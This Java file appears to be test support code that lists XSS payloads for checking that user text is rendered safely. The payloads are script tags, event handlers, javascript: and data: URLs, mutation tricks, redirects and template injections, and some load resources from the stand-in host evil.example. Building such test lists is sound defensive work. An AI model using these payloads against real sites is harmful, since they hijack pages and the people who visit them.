package dev.larder.support;

import java.util.List;

/**
 * Texts that try to run a script, or to load something, where they are shown as they are. A script
 * that runs calls {@code alert} and sets {@code window.broken}; whatever is loaded comes from the
 * host {@code evil.example}.
 */
public final class XssPayloads {

  private static final String RUN = "window.broken=1;alert(1)";

  private XssPayloads() {}

  /** All of them. */
  public static List<String> all() {
    return List.of(
        "<script>" + RUN + "</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
        "\"><script>" + RUN + "</script>",
        "'><script>" + RUN + "</script>",
        "</title><script>" + RUN + "</script>",
        "</textarea><script>" + RUN + "</script>",
        "--><script>" + RUN + "</script>",
        "]]><script>" + RUN + "</script>",
        "\" autofocus onfocus=\"" + RUN + "\" x=\"",
        "' onmouseover='" + RUN + "' x='",
        "<img src=x onerror=" + RUN + ">",
        "<img src=`x` onerror='" + RUN + "'>",
        "<img/src/onerror=" + RUN + ">",
        "<img src=\"javascript:" + RUN + "\">",
        "<img src=http://evil.example/pixel.png>",
        "<img srcset=\"https://evil.example/a.png 1x\" src=x>",
        "<svg onload=" + RUN + ">",
        "<svg><script>" + RUN + "</script></svg>",
        "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:" + RUN + "\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
            + " onerror="
            + RUN
            + "&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
        "<style>@import 'http://evil.example/x.css';*{background:url(//evil.example/y)}</style>",
        "<p style=\"background:url(//evil.example/z);behavior:url(x)\">styled</p>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<iframe src=\"javascript:" + RUN + "\"></iframe>",
        "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
        "<object data=\"javascript:" + RUN + "\"></object>",
        "<embed src=//evil.example/x.swf>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<form action=//evil.example/><button>x</button><input autofocus onfocus=" + RUN + ">",
        "<a href=\"javascript:" + RUN + "\">click</a>",
        "<a href=\"java\tscript:" + RUN + "\">click</a>",
        "<a href=\"&#106;avascript:" + RUN + "\">click</a>",
        "<a href=\" \u0001javascript:" + RUN + "\">click</a>",
        "<a href=\"data:text/html,<script>" + RUN + "</script>\">click</a>",
        "<a href=\"vbscript:x\" onclick=\"" + RUN + "\">click</a>",
        "<details open ontoggle=" + RUN + ">x</details>",
        "<video autoplay onloadstart=" + RUN + "><source src=//evil.example/v.mp4></video>",
        "<audio src=//evil.example/a.mp3 onerror=" + RUN + ">",
        "<body onload=" + RUN + ">",
        "<marquee onstart=" + RUN + ">x</marquee>",
        "<select autofocus onfocus=" + RUN + ">",
        "<template><script>" + RUN + "</script></template>",
        "<xss id=x tabindex=1 onfocus=" + RUN + " style=display:block>x</xss>",
        "<p id=main class=site name=q>clobbering</p>",
        "${window.broken=1}${pageContext.request}#{7*7}",
        "%3Cscript%3E" + RUN + "%3C/script%3E",
        "&lt;script&gt;" + RUN + "&lt;/script&gt;",
        "javascript:" + RUN,
        "//evil.example/x",
        "\u2028\u2029</script><script>" + RUN + "</script>");
  }
}
